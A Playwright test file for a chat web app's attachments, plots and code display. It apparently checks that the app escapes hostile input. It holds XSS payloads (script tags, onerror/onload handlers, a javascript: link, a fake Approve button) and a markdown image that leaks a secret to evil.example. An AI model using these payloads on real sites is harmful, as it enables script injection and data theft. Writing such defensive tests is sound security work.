"""Files on the page, and names and text that want to do harm."""

from __future__ import annotations

import pytest
from playwright.async_api import FilePayload, Page, Request, expect

from core.domain.messages import Answer, Card, File
from tests.fakes.card_rows import card_row
from tests.web.page.browser import ask, say
from tests.web.web_ponte import Turn, WebPonte

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def test_files_by_button_drop_and_paste(ponte: WebPonte, page: Page) -> None:
    await page.set_input_files(
        "#files", FilePayload(name="a.csv", mimeType="text/csv", buffer=b"1")
    )
    for kind in ("drop", "paste"):
        await page.evaluate(
            """kind => {
                const data = new DataTransfer();
                data.items.add(new File(["x"], `${kind}.txt`, { type: "text/plain" }));
                const event = kind === "drop"
                  ? new DragEvent(kind, { dataTransfer: data, bubbles: true })
                  : new ClipboardEvent(kind, { clipboardData: data, bubbles: true });
                document.getElementById("text").dispatchEvent(event);
            }""",
            kind,
        )
    names = page.locator("#attached bdi")
    await expect(names).to_have_text(["a.csv", "drop.txt", "paste.txt"])
    await page.get_by_role("button", name="Remove drop.txt").click()
    await ask(page, "see")
    await expect(page.locator(".said .files a")).to_have_text(["a.csv", "paste.txt"])
    await expect(names).to_have_count(0)
    assert [a.name for a in ponte.rows[1].message.attachments] == ["a.csv", "paste.txt"]


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d4944415478da63fccfc0f01f0005050201c2b0a5f70000000049454e44ae426082"
)


async def test_plots_are_shown_and_other_files_are_links(ponte: WebPonte, page: Page) -> None:
    async def script(turn: Turn) -> Answer:
        where, owner = turn.message.address.conversation, turn.message.author
        plot = await ponte.files.put("e", "plot.png", "image/png", PNG, owner, where)
        page_ = await ponte.files.put("e", "x.html", "text/html", b"<script>", owner, where)
        return Answer("Here.", files=(plot, page_))

    ponte.script = script
    await say(page, "draw")
    image = page.get_by_role("img", name="plot.png")
    await expect(image).to_be_visible()
    assert await image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 1
    async with page.expect_download() as download:
        await page.get_by_role("link", name="x.html").click()
    assert (await download.value).suggested_filename == "x.html"


async def test_the_code_that_ran_unfolds_as_text(ponte: WebPonte, page: Page) -> None:
    code = "print('<b>6</b>')  # <script>document.title='owned'</script>\nx = 7"

    async def script(turn: Turn) -> Answer:
        where, owner = turn.message.address.conversation, turn.message.author
        plot = await ponte.files.put("e", "plot.png", "image/png", PNG, owner, where)
        ran = await ponte.files.put("e", "code.py", "text/x-python", code.encode(), owner, where)
        return Answer("Here.", files=(plot, ran))

    ponte.script = script
    await say(page, "draw")
    await expect(page.get_by_role("img", name="plot.png")).to_be_visible()
    shown = page.locator(".ran pre")
    await expect(shown).to_be_hidden()
    await page.get_by_text("Code that ran").click()
    await expect(shown).to_have_text(code)
    await expect(shown).to_be_visible()
    assert await page.title() != "owned"
    async with page.expect_download() as download:
        await page.get_by_role("link", name="code.py").click()
    assert (await download.value).suggested_filename == "code.py"


HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
[click](javascript:document.title='owned') ![leak](https://evil.example/?q=secret)
<button class="approve">Approve</button> <style>body{display:none}</style>
<svg onload="document.title='owned'"> [x](https://a.example" onmouseover="document.title='owned')
"""


async def test_hostile_markdown_and_file_names_do_nothing(ponte: WebPonte, page: Page) -> None:
    name = "<img src=x onerror=\"document.title='owned'\">.txt"

    async def script(turn: Turn) -> Answer:
        await turn.show(HOSTILE)
        cards = (
            Card(
                "abc234",
                "change",
                HOSTILE,
                HOSTILE,
                (card_row({HOSTILE: 1}, {}),),
            ),
        )
        return Answer(HOSTILE, cards=cards, files=(File("f", name, "image/svg+xml", 1),))

    ponte.script = script
    asked: list[str] = []

    def on_request(request: Request) -> None:
        asked.append(request.url)

    page.on("request", on_request)
    await page.set_input_files("#files", FilePayload(name=name, mimeType="x/y", buffer=b"1"))
    await say(page, HOSTILE)
    await expect(page.locator(".card")).to_be_visible()
    await page.reload()
    await expect(page.locator(".card")).to_be_visible()
    assert await page.title() != "owned"
    foreign = page.locator("main button.approve, main script, main style, main svg:not(button > *)")
    assert await foreign.count() == 0
    assert await page.locator("main img").count() == 0
    page.remove_listener("request", on_request)
    assert all(url.startswith(ponte.web.address) for url in asked)


async def test_a_picture_opens_large_over_the_page(ponte: WebPonte, page: Page) -> None:
    async def script(turn: Turn) -> Answer:
        where, owner = turn.message.address.conversation, turn.message.author
        return Answer("There.", files=(
            await ponte.files.put("e", "plot.png", "image/png", PNG, owner, where),
        ))  # fmt: skip

    ponte.script = script
    await say(page, "plot")
    await page.get_by_role("img", name="plot.png").click()
    await expect(page.locator("#picture")).to_be_visible()
    assert await page.locator("#large").evaluate("one => one.complete && one.naturalWidth") == 1
    await page.keyboard.press("Escape")
    await expect(page.locator("#picture")).to_be_hidden()
